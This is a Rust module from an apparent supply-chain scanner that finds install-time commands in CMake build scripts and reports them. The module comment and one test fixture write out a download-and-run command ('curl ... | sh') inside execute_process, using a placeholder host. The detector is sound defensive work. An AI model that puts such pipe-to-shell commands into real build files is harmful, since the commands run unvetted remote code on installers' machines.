//! CMake build scripts (`CMakeLists.txt`, `*.cmake`). A package built with CMake
//! (scikit-build, scikit-build-core, py-build-cmake, cmake-build-extension) runs its
//! `CMakeLists.txt` on the installer's machine when pip builds it from source, and CMake runs
//! every `execute_process(...)` (and the older `exec_program(...)`) while it configures: such
//! a command is install-time code written outside Python. Each one's arguments are matched, as
//! written, against the string patterns of the rule that reads shell commands that download
//! and run code (`download-pipe-to-shell`): `execute_process(COMMAND sh -c "curl -fsSL URL |
//! sh")` is reported as `os.system("curl -fsSL URL | sh")` is.

use std::ops::Range;
use std::path::Path;

use pysbx_rules::RuleSet;

use crate::entry_points::{finding_at, outcome_of, positive_strings};
use crate::pipeline::FileOutcome;

/// The rule whose string patterns judge a configure-time command.
const COMMAND_RULE: &str = "download-pipe-to-shell";

/// The commands CMake runs while it configures the project.
const RUNNING_COMMANDS: &[&str] = &["execute_process", "exec_program"];

/// The most commands of one file read; a build script has a few.
const MAX_COMMANDS: usize = 4096;

/// The most bytes of a command's arguments kept for its finding's subject.
const MAX_SUBJECT_BYTES: usize = 200;

/// The findings of a CMake build script's configure-time commands; `None` when none is
/// reported, or the rule is not among those run.
pub(crate) fn scan(rules: &RuleSet, text: &str) -> Option<FileOutcome> {
    let (index, rule) = rules.rules().iter().enumerate().find(|(_, r)| r.name == COMMAND_RULE)?;
    let mut patterns = Vec::new();
    positive_strings(&rule.matcher, &mut patterns);
    if patterns.is_empty() {
        return None;
    }
    let mut findings = Vec::new();
    for command in running_commands(text) {
        let arguments = &text[command.arguments.clone()];
        if patterns.iter().any(|re| re.is_match(arguments)) {
            let subject = subject_of(arguments);
            findings.push(finding_at(index, rule, text, command.name, &subject));
        }
    }
    outcome_of(text, findings)
}

/// One invocation of a command that runs a program: where its name is written, and its
/// arguments (between the parentheses).
#[derive(Debug, PartialEq, Eq)]
struct Invocation {
    name: Range<usize>,
    arguments: Range<usize>,
}

/// The invocations of [`RUNNING_COMMANDS`] in a CMake script. CMake's syntax is read as far
/// as finding them needs: `#` comments and bracket comments (`#[[...]]`), quoted arguments
/// with their escapes, bracket arguments (`[=[...]=]`) and nested parentheses. Command names
/// are case-insensitive.
fn running_commands(text: &str) -> Vec<Invocation> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    while i < bytes.len() && found.len() < MAX_COMMANDS {
        match bytes[i] {
            b'#' => i = skip_comment(bytes, i),
            b'"' => i = skip_quoted(bytes, i),
            b'[' if bracket_level(bytes, i).is_some() => i = skip_bracket(bytes, i),
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
                    i += 1;
                }
                let name = &text[start..i];
                let mut open = i;
                while open < bytes.len() && matches!(bytes[open], b' ' | b'\t') {
                    open += 1;
                }
                if bytes.get(open) == Some(&b'(')
                    && RUNNING_COMMANDS.iter().any(|c| c.eq_ignore_ascii_case(name))
                {
                    let close = matching_paren(bytes, open);
                    found.push(Invocation { name: start..i, arguments: open + 1..close });
                    i = (close + 1).min(bytes.len());
                }
            }
            _ => i += 1,
        }
    }
    found
}

/// The end of a comment starting at `at` (`#`): the end of its line, or of its bracket.
fn skip_comment(bytes: &[u8], at: usize) -> usize {
    if bytes.get(at + 1) == Some(&b'[') && bracket_level(bytes, at + 1).is_some() {
        return skip_bracket(bytes, at + 1);
    }
    bytes[at..].iter().position(|&b| b == b'\n').map_or(bytes.len(), |p| at + p + 1)
}

/// The end of a quoted argument starting at `at` (`"`), past its closing quote.
fn skip_quoted(bytes: &[u8], at: usize) -> usize {
    let mut i = at + 1;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => i += 2,
            b'"' => return i + 1,
            _ => i += 1,
        }
    }
    bytes.len()
}

/// The number of `=` of a bracket opening at `at` (`[[`, `[=[`, ...), if one opens there.
fn bracket_level(bytes: &[u8], at: usize) -> Option<usize> {
    let equals = bytes.get(at + 1..)?.iter().take_while(|&&b| b == b'=').count();
    (bytes.get(at + 1 + equals) == Some(&b'[')).then_some(equals)
}

/// The end of a bracket argument or comment opening at `at`, past its closing bracket.
fn skip_bracket(bytes: &[u8], at: usize) -> usize {
    let Some(level) = bracket_level(bytes, at) else { return at + 1 };
    let mut close = Vec::with_capacity(level + 2);
    close.push(b']');
    close.extend(std::iter::repeat_n(b'=', level));
    close.push(b']');
    let body = at + level + 2;
    bytes
        .get(body..)
        .and_then(|rest| rest.windows(close.len()).position(|w| w == close.as_slice()))
        .map_or(bytes.len(), |p| body + p + close.len())
}

/// The position of the parenthesis closing the one at `open` (the text's end when none does).
fn matching_paren(bytes: &[u8], open: usize) -> usize {
    let mut depth = 0usize;
    let mut i = open;
    while i < bytes.len() {
        match bytes[i] {
            b'(' => {
                depth += 1;
                i += 1;
            }
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return i;
                }
                i += 1;
            }
            b'"' => i = skip_quoted(bytes, i),
            b'#' => i = skip_comment(bytes, i),
            b'[' if bracket_level(bytes, i).is_some() => i = skip_bracket(bytes, i),
            _ => i += 1,
        }
    }
    bytes.len()
}

/// A command's arguments on one line, spaces collapsed, cut to [`MAX_SUBJECT_BYTES`].
fn subject_of(arguments: &str) -> String {
    let mut subject = arguments.split_whitespace().collect::<Vec<_>>().join(" ");
    if subject.len() > MAX_SUBJECT_BYTES {
        subject.truncate(subject.floor_char_boundary(MAX_SUBJECT_BYTES));
        subject.push_str("...");
    }
    subject
}

/// Whether `path`'s file name is a CMake build script's.
pub(crate) fn is_cmake_path(path: &Path) -> bool {
    path.file_name().and_then(|n| n.to_str()).is_some_and(pysbx_walk::is_cmake_script)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn arguments(text: &str) -> Vec<&str> {
        running_commands(text).into_iter().map(|c| &text[c.arguments]).collect()
    }

    #[test]
    fn finds_configure_commands_in_any_case() {
        let text = "project(x)\nexecute_process(COMMAND sh -c \"curl -fsSL https://x.invalid/i.sh | sh\")\nEXEC_PROGRAM (uname ARGS -a)\n";
        assert_eq!(
            arguments(text),
            ["COMMAND sh -c \"curl -fsSL https://x.invalid/i.sh | sh\"", "uname ARGS -a"]
        );
        let first = &running_commands(text)[0];
        assert_eq!(&text[first.name.clone()], "execute_process");
    }

    #[test]
    fn skips_comments_quotes_and_brackets() {
        let text = "# execute_process(COMMAND a)\n#[[ execute_process(COMMAND b) ]]\nmessage(\"execute_process(COMMAND c)\")\nset(x [=[ execute_process(COMMAND d) ]=])\nexecute_process(COMMAND e \"(\" \")\" # )\n)\n";
        assert_eq!(arguments(text), ["COMMAND e \"(\" \")\" # )\n"]);
    }

    #[test]
    fn nested_parentheses_and_unclosed_text_end_safely() {
        assert_eq!(arguments("execute_process(COMMAND $(x) (y))"), ["COMMAND $(x) (y)"]);
        assert_eq!(arguments("execute_process(COMMAND \"unclosed"), ["COMMAND \"unclosed"]);
        assert_eq!(arguments("execute_process"), Vec::<&str>::new());
        assert_eq!(arguments("my_execute_process(COMMAND z)"), Vec::<&str>::new());
    }

    #[test]
    fn any_text_is_read_without_panicking() {
        // Multi-byte characters beside every construct, escapes at the end, unclosed brackets.
        let pieces = [
            "é",
            "execute_process",
            "(",
            ")",
            "\"",
            "\\",
            "#",
            "[[",
            "]]",
            "[=[",
            "\n",
            "ü(",
            "exec_program (",
        ];
        let mut text = String::new();
        let mut found = 0;
        for i in 0..400 {
            text.push_str(pieces[(i * 7 + i / 3) % pieces.len()]);
            for c in running_commands(&text) {
                assert!(text.is_char_boundary(c.arguments.start));
                assert!(text.is_char_boundary(c.arguments.end));
                assert!(c.name.end <= c.arguments.start);
                found += 1;
            }
        }
        assert!(found > 0, "the pieces make invocations to read");
    }

    #[test]
    fn names_of_build_scripts() {
        assert!(is_cmake_path(Path::new("x/CMakeLists.txt")));
        assert!(is_cmake_path(Path::new("cmake/FindFoo.cmake")));
        assert!(!is_cmake_path(Path::new("x/notes.txt")));
    }

    #[test]
    fn subjects_are_one_short_line() {
        assert_eq!(subject_of("COMMAND\n  sh   -c x"), "COMMAND sh -c x");
        let long = "é".repeat(150);
        let subject = subject_of(&long);
        assert!(subject.len() <= MAX_SUBJECT_BYTES + 3 && subject.ends_with("..."));
    }
}
